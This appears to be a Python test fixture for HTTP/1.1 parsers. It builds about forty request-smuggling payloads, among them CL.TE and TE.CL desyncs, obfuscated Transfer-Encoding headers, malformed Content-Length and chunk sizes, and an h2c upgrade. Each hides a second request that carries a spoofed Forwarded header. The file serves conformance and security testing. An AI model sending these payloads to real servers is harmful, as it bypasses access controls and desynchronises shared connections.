"""Requests that two readers may take apart differently, each with a second one in its body.

Source: RFC 9112, sections 2.2, 5.1, 6.1, 6.3, 7.1 and 11.2; the classes of "HTTP Desync Attacks"
(Kettle, 2019) and of "HTTP/2: The Sequel is Always Worse" (2021).
"""

TRUSTED = "Forwarded: for=192.0.2.7;proto=https\r\n"
INNER = f"GET /smuggled HTTP/1.1\r\nHost: localhost\r\n{TRUSTED}\r\n"
"""Bytes that must not be parsed as a request."""

_CHUNKED_END = "0\r\n\r\n"
_AFTER_CHUNKS = _CHUNKED_END + INNER


def request(head: str, body: str, line: str = "POST /guarded HTTP/1.1") -> bytes:
    """Return a request; its head's lines end in CRLF."""
    return f"{line}\r\nHost: localhost\r\n{TRUSTED}{head}\r\n{body}".encode("latin-1")


def _length(body: str) -> str:
    return f"Content-Length: {len(body)}\r\n"


def _chunk(data: str) -> str:
    return f"{len(data):x}\r\n{data}\r\n"


def _hidden(transfer_encoding: str) -> bytes:
    """Return a body with Content-Length and a malformed Transfer-Encoding: chunked."""
    return request(_length(_AFTER_CHUNKS) + transfer_encoding, _AFTER_CHUNKS)


SHAPES = {
    "CL.TE": request(_length(_AFTER_CHUNKS) + "Transfer-Encoding: chunked\r\n", _AFTER_CHUNKS),
    "TE.CL": request(
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", _chunk(INNER) + _CHUNKED_END
    ),
    "TE.CL, the length is nought": request(
        "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", _chunk(INNER) + _CHUNKED_END
    ),
    "TE: xchunked": _hidden("Transfer-Encoding: xchunked\r\n"),
    "TE and a space": _hidden("Transfer-Encoding : chunked\r\n"),
    "TE and a tab": _hidden("Transfer-Encoding\t: chunked\r\n"),
    "TE folded": _hidden("Transfer-Encoding:\r\n chunked\r\n"),
    "TE in a folded line": _hidden("X-Fold: a\r\n Transfer-Encoding: chunked\r\n"),
    "TE twice": _hidden("Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n"),
    "TE: identity": _hidden("Transfer-Encoding: identity\r\n"),
    "TE: identity, chunked": _hidden("Transfer-Encoding: identity, chunked\r\n"),
    "TE: chunked, identity": _hidden("Transfer-Encoding: chunked, identity\r\n"),
    "TE in quotes": _hidden('Transfer-Encoding: "chunked"\r\n'),
    "TE and a vertical tab": _hidden("Transfer-Encoding: \x0bchunked\r\n"),
    "TE and NUL": _hidden("Transfer-Encoding: chunked\0\r\n"),
    "TE after a bare LF": _hidden("X-A: b\nTransfer-Encoding: chunked\r\n"),
    "TE after a bare CR": _hidden("X-A: b\rTransfer-Encoding: chunked\r\n"),
    "TE with an underscore": _hidden("Transfer_Encoding: chunked\r\n"),
    "TE of HTTP/1.0": request(
        "Transfer-Encoding: chunked\r\n", _AFTER_CHUNKS, "POST /guarded HTTP/1.0"
    ),
    "TE in capitals": _hidden("TRANSFER-ENCODING: CHUNKED\r\n"),
    "CL twice": request("Content-Length: 0\r\n" + _length(INNER), INNER),
    "CL twice, the longer first": request(_length(INNER) + "Content-Length: 0\r\n", INNER),
    "CL as a list": request(f"Content-Length: 0, {len(INNER)}\r\n", INNER),
    "CL with a plus": request(f"Content-Length: +{len(INNER)}\r\n", INNER),
    "CL with a minus": request(f"Content-Length: -{len(INNER)}\r\n", INNER),
    "CL in hexadecimal": request(f"Content-Length: {len(INNER):#x}\r\n", INNER),
    "CL and a space": request(f"Content-Length : {len(INNER)}\r\n", INNER),
    "CL with a space in it": request("Content-Length: 1 0\r\n", INNER),
    "CL beyond 64 bits": request(f"Content-Length: {2**64 + len(INNER)}\r\n", INNER),
    "CL with an underscore": request(f"Content_Length: {len(INNER)}\r\nContent-Length: 0\r\n", ""),
    "CL after a NUL": request(f"X-A: \0\r\nContent-Length: {len(INNER)}\r\n", INNER),
    "chunk of hexadecimal prefix": request(
        "Transfer-Encoding: chunked\r\n", f"0x{len(INNER):x}\r\n{INNER}\r\n{_CHUNKED_END}"
    ),
    "chunk of negative size": request("Transfer-Encoding: chunked\r\n", f"-1\r\n{_AFTER_CHUNKS}"),
    "chunk of a size beyond 64 bits": request(
        "Transfer-Encoding: chunked\r\n", f"1{'0' * 16}\r\n{_AFTER_CHUNKS}"
    ),
    "chunk longer than it says": request(
        "Transfer-Encoding: chunked\r\n", f"1\r\nabc\r\n{_AFTER_CHUNKS}"
    ),
    "chunk's size ends in LF": request(
        "Transfer-Encoding: chunked\r\n", f"{len(INNER):x};\n{INNER}\r\n{_CHUNKED_END}"
    ),
    "chunk's extension": request(
        "Transfer-Encoding: chunked\r\n", f"{len(INNER):x};a=b\r\n{INNER}\r\n{_CHUNKED_END}"
    ),
    "chunk's extension has a bare LF": request(
        "Transfer-Encoding: chunked\r\n", f"2;a\nxx\r\n{len(INNER):x}\r\n{INNER}\r\n{_CHUNKED_END}"
    ),
    "trailers that frame": request(
        "Transfer-Encoding: chunked\r\n",
        f"{_chunk(INNER)}0\r\n{_length(INNER)}Transfer-Encoding: chunked\r\n\r\n",
    ),
    "bare LF": request(_length(INNER), "").replace(b"\r\n", b"\n") + INNER.encode(),
    "a space before the headers": request("", "").replace(b"\r\nHost", b"\r\n Host"),
    "absolute form": request(_length(INNER), INNER, "POST http://evil.example/guarded HTTP/1.1"),
    "a request in the path": request(
        _length(INNER), INNER, "POST /guarded?a\rHTTP/1.1\rX: GET /smuggled HTTP/1.1"
    ),
    "a GET with a body": request(_length(INNER), INNER, "GET /guarded HTTP/1.1"),
    "Expect and a body": request(f"Expect: 100-continue\r\n{_length(INNER)}", INNER),
    "Upgrade to h2c": request(
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        "HTTP2-Settings: AAMAAABkAAQAAP__\r\n",
        "",
        "GET /guarded HTTP/1.1",
    ),
    "Connection names a header of the proxy's": request(
        f"Connection: close, Forwarded, Content-Length\r\n{_length(INNER)}", INNER
    ),
}
"""Each by what is odd about it; whoever reads them right finds one request in each, or none."""

PIPELINED = request(_length(""), INNER)
"""The control: two honest requests."""
